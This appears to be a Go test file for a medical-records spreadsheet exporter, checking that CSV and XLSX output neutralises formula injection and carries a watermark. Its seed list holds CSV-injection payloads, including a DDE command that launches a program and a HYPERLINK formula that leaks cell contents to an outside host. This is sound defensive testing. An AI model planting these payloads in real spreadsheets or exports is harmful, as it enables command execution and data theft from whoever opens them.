package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/medward/medward/kit/sheet"
)

var dangerous = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+86 571`, `-5`, `@SUM(A1)`, "\t=1", "\r=1", " =1", "＝1", "\u200b=1", `"=1`, "a\n=1", `=HYPERLINK("http://example.org/?"&A1)`, "%0A=1", "|x",
}

func table(cells []string) sheet.Table {
	return sheet.Table{Name: "患者", Head: []string{"姓名", "备注"}, Rows: [][]string{cells, {"李四", "好"}}, Mark: "MEDWARD 2026-000001 ABCD-EFGH & Co"}
}

func TestNoCellOfCSVBeginsAFormula(t *testing.T) {
	rows := readCSV(t, sheet.CSV(table(dangerous)))
	for i, cell := range rows[2] {
		if first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, unicode.IsSpace)); strings.ContainsRune("=+-@＝＋－＠|%", first) {
			t.Errorf("%q is written as %q", dangerous[i], cell)
		}
	}
	if rows[0][0] != rows[len(rows)-1][0] || !strings.Contains(rows[0][0], "MEDWARD 2026-000001") {
		t.Errorf("the mark stands not first and last: %q %q", rows[0], rows[len(rows)-1])
	}
	if rows[3][0] != "李四" {
		t.Errorf("harmless text was changed: %q", rows[3])
	}
}

func readCSV(t interface{ Fatal(...any) }, file []byte) [][]string {
	text, marked := bytes.CutPrefix(file, []byte("\ufeff"))
	if !marked {
		t.Fatal("no byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(text))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestAnythingComesBackAsText(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cells := rapid.SliceOfN(rapid.OneOf(rapid.String(), rapid.SampledFrom(dangerous)), 1, 5).Draw(t, "cells")
		rows := readCSV(t, sheet.CSV(table(cells)))
		if len(rows) != 5 || len(rows[2]) != len(cells) {
			t.Fatalf("%d rows, %d cells of %d", len(rows), len(rows[2]), len(cells))
		}
		for i, cell := range rows[2] {
			if cell != sheet.Safe(cells[i]) {
				t.Fatalf("%q came back as %q", sheet.Safe(cells[i]), cell)
			}
		}
		file, err := sheet.XLSX(table(cells))
		if err != nil {
			t.Fatal(err)
		}
		inside := readXLSX(t, file)
		if got := len(inside.Rows[1].Cells); got != len(cells) {
			t.Fatalf("%d cells of %d", got, len(cells))
		}
		for _, row := range inside.Rows {
			for _, c := range row.Cells {
				if c.Type != "inlineStr" || c.Formula != "" {
					t.Fatalf("%s is of type %q with the formula %q", c.Ref, c.Type, c.Formula)
				}
			}
		}
	})
}

type workbook struct {
	Rows []struct {
		Cells []struct {
			Ref     string `xml:"r,attr"`
			Type    string `xml:"t,attr"`
			Formula string `xml:"f"`
			Text    string `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
	Header string `xml:"headerFooter>oddHeader"`
}

func part(t interface{ Fatal(...any) }, file []byte, path string) []byte {
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func readXLSX(t interface{ Fatal(...any) }, file []byte) workbook {
	var w workbook
	if err := xml.Unmarshal(part(t, file, "xl/worksheets/sheet1.xml"), &w); err != nil {
		t.Fatal(err)
	}
	return w
}

func TestTheMarkStandsInEveryPlaceOfAWorkbook(t *testing.T) {
	file, err := sheet.XLSX(table([]string{"=1+1"}))
	if err != nil {
		t.Fatal(err)
	}
	inside := readXLSX(t, file)
	if got := inside.Rows[1].Cells[0].Text; got != "=1+1" {
		t.Errorf("a cell typed as text needs no apostrophe: %q", got)
	}
	last := inside.Rows[len(inside.Rows)-1].Cells[0]
	if !strings.Contains(last.Text, "2026-000001") || last.Ref != "A4" || !strings.Contains(inside.Header, "2026-000001") ||
		!bytes.Contains(part(t, file, "docProps/core.xml"), []byte("2026-000001")) {
		t.Errorf("last row %+v, header %q", last, inside.Header)
	}
	again, err := sheet.XLSX(table([]string{"=1+1"}))
	if err != nil || !slices.Equal(file, again) {
		t.Errorf("the same table gave other bytes: %v", err)
	}
}

func FuzzSafe(f *testing.F) {
	for _, seed := range dangerous {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		safe := sheet.Safe(cell)
		first, _ := utf8.DecodeRuneInString(safe)
		if strings.ContainsRune("=+-@＝＋－＠|%\t\r", first) && safe != "" || !utf8.ValidString(safe) {
			t.Fatalf("%q is written as %q", cell, safe)
		}
	})
}
